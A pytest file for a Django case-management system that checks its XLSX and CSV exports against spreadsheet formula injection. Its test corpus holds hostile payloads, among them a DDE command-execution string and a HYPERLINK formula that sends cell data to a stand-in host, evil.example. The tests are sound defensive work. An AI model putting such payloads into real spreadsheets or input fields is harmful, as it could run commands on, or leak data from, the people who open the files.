"""T19 Export formula injection (RELIABILITY.md §3, ASVS 1.2.10).

The user text of a case (party names, claim descriptions, reasons) is set to each payload of
the corpus, then read back from every spreadsheet the system writes: the case list XLSX (web
and API) and the history CSV (the only CSV export).

Pass: 0 text cells evaluated as formulas (openpyxl: data_type != "f"; text starting with a
trigger carries Excel's quote prefix); CSV cells starting with a trigger character are
prefixed with "'"; money columns stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from rest_framework.test import APIClient

from cases import services
from cases.workflow import Status
from core.history import save_with_history

pytestmark = pytest.mark.django_db

CORPUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "@SUM(1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "＝1+1",
    "=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def poisoned(case_in: Any, world: Any, clerk: Any) -> list[Any]:
    """One case per payload: the applicant's name, the claim and an edit reason carry it."""
    cases = []
    for payload in CORPUS:
        case = case_in(Status.DRAFT)
        person = case.parties.get(side="applicant").person
        person.name = payload
        save_with_history(person, actor=clerk, reason=payload)
        claim = case.claims.first()
        claim.description = payload
        save_with_history(claim, actor=clerk, reason=payload)
        services.claim_add(case=case, actor=clerk, claim_type="WAGE", description=payload, amount="1234.50")
        cases.append(case)
    return cases


def _check_workbook(content: bytes) -> int:
    sheet = load_workbook(io.BytesIO(content)).active
    checked = 0
    amounts = 0
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and cell.value.startswith((*TRIGGERS[:6], "\n")):
                assert cell.quotePrefix, (cell.coordinate, cell.value)
                checked += 1
        amount = row[10]  # 请求金额（元）
        assert amount.data_type == "n" and amount.number_format == "#,##0.00"
        amounts += 1
    assert amounts >= len(CORPUS)
    return checked


def test_the_case_list_xlsx_keeps_every_payload_as_text(poisoned: list[Any], director: Any) -> None:
    web = Client()
    web.force_login(director)
    api = APIClient()
    api.force_authenticate(director)

    for response in (web.get("/reports/cases/export.xlsx"), api.get("/api/v1/cases/export.xlsx")):
        assert response.status_code == 200
        content = b"".join(response.streaming_content) if response.streaming else response.content
        names = {c.value for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for c in row[5:6]}
        assert {p.replace("\r", "\n") for p in CORPUS} <= names  # openpyxl reads a lone CR back as LF
        assert _check_workbook(content) >= len([p for p in CORPUS if p.startswith(TRIGGERS[:6])])


def test_the_history_csv_prefixes_every_trigger(poisoned: list[Any], auditor: Any) -> None:
    web = Client()
    web.force_login(auditor)

    text = web.get("/cases/history/export.csv").content.decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for payload in CORPUS:  # each payload is there, neutralised, as the reason of its edit
        assert any(row[7] == "'" + payload for row in rows[1:]), payload
